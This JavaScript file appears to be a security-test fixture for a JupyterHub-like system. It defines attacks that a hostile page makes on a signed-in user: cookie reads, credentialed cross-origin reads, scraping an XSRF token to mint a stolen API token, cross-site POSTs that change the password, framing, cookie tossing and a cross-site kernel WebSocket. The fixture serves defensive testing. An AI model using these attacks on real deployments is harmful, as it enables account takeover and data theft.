// What a page of mallory's tries against bob, who is signed in and looks at it. Each attack gives what it got, or null.
const within = (seconds, promise) =>
  Promise.race([promise, new Promise((done) => setTimeout(() => done(null), 1000 * seconds))]);

async function read(url) {
  try {
    const answer = await fetch(url, { credentials: "include" });
    return answer.ok ? await answer.text() : null;
  } catch {
    return null;
  }
}

async function popup(url, look) {
  const opened = window.open(url);
  const got = await within(4, new Promise((done) => {
    const timer = setInterval(() => {
      try {
        if (opened.location.href !== "about:blank" && opened.document.readyState === "complete") {
          clearInterval(timer);
          done(look(opened));
        }
      } catch {
        clearInterval(timer); // another origin
        done(null);
      }
    }, 50);
  }));
  opened?.close();
  return got;
}

window.attacks = {
  cookies: async () => document.cookie,
  readHub: ({ hub }) => read(`${hub}/hub/home`),
  readApi: ({ hub }) => read(`${hub}/hub/api/user`),
  readService: ({ hub }) => read(`${hub}/services/joulebook/quota`),
  readFile: ({ bob }) => popup(`${bob}/user/bob/files/secret.html`, (page) => page.document.body.innerText),
  readContents: ({ bob }) => read(`${bob}/user/bob/api/contents/secret.html`),
  // The hub's page has the token that its forms need; whoever can read the page has it.
  stealToken: async ({ hub }) => {
    const page = await popup(`${hub}/hub/home`, (opened) => opened.document.documentElement.innerHTML);
    const xsrf = /xsrf_token: "([^"]+)"/.exec(page ?? "")?.[1] ?? "none";
    const made = await fetch(`${hub}/hub/api/users/bob/tokens`, {
      method: "POST", credentials: "include", body: JSON.stringify({ note: "stolen" }),
      headers: { "X-XSRFToken": xsrf, "Content-Type": "application/json" },
    }).catch(() => null);
    return made?.ok ? (await made.json()).token : null;
  },
  // A question that browsers send without asking first; the answer cannot be read, but it could have acted.
  blindPost: async ({ hub }) => {
    await fetch(`${hub}/hub/api/users/bob/tokens`, {
      method: "POST", credentials: "include", mode: "no-cors", body: JSON.stringify({ note: "blind" }),
    }).catch(() => null);
    return null;
  },
  postForm: async ({ hub }) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "target" });
    const form = Object.assign(document.createElement("form"), {
      action: `${hub}/hub/password`, method: "post", target: "target",
    });
    for (const [name, value] of [["current", "coil gun marmalade"], ["password", "mallory knows it"], ["repeated", "mallory knows it"]])
      form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
    const done = new Promise((told) => (frame.onload = told));
    document.body.append(frame, form);
    form.submit();
    await within(4, done);
    return null;
  },
  frame: async ({ hub }) => {
    const frame = Object.assign(document.createElement("iframe"), { src: `${hub}/hub/home`, id: "framed" });
    const loaded = new Promise((done) => (frame.onload = done));
    document.body.append(frame);
    await within(4, loaded);
    return null; // the test looks into it
  },
  toss: async ({ cookies }) => {
    for (const cookie of cookies) document.cookie = cookie;
    await fetch("tossed", { credentials: "include" });
    return null;
  },
  channel: async ({ bob, kernel, xsrf }) => {
    const token = xsrf ?? (await popup(`${bob}/user/bob/files/secret.html`, (page) => /_xsrf=([^;]+)/.exec(page.document.cookie)?.[1]));
    const address = `${bob.replace("https", "wss")}/user/bob/api/kernels/${kernel}/channels?_xsrf=${token ?? ""}`;
    return within(6, new Promise((done) => {
      const socket = new WebSocket(address);
      socket.onopen = () => done("open");
      socket.onerror = () => done(null);
    }));
  },
};
